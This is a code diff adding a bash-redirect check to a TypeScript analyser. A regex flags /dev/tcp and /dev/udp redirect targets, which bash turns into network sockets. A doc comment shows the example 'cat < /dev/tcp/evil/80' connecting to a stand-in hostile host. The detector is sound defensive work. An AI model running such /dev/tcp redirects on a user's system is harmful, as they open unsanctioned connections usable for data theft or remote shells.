@@ -102,3 +102,17 @@ export function writesFile(redirect: Redirect): boolean {
   const target = redirect.target;
   return target === null || target.glob || target.value !== "/dev/null";
 }
+
+/** Paths bash itself turns into network sockets when a redirect opens them. */
+const NETWORK_PATH = /^\/dev\/(?:tcp|udp)\//;
+
+/**
+ * Whether a redirect may open a network connection: bash treats `/dev/tcp/HOST/PORT` and
+ * `/dev/udp/HOST/PORT` in a redirect as sockets (`cat < /dev/tcp/evil/80` connects out), in
+ * either direction. A target whose value is unknown counts when its text names such a path.
+ */
+export function opensConnection(redirect: Redirect): boolean {
+  if (redirect.kind !== "file" || redirect.target === null) return false;
+  const { value, text } = redirect.target;
+  return value !== null ? NETWORK_PATH.test(value) : /\/dev\/(?:tcp|udp)\//.test(text);
+}
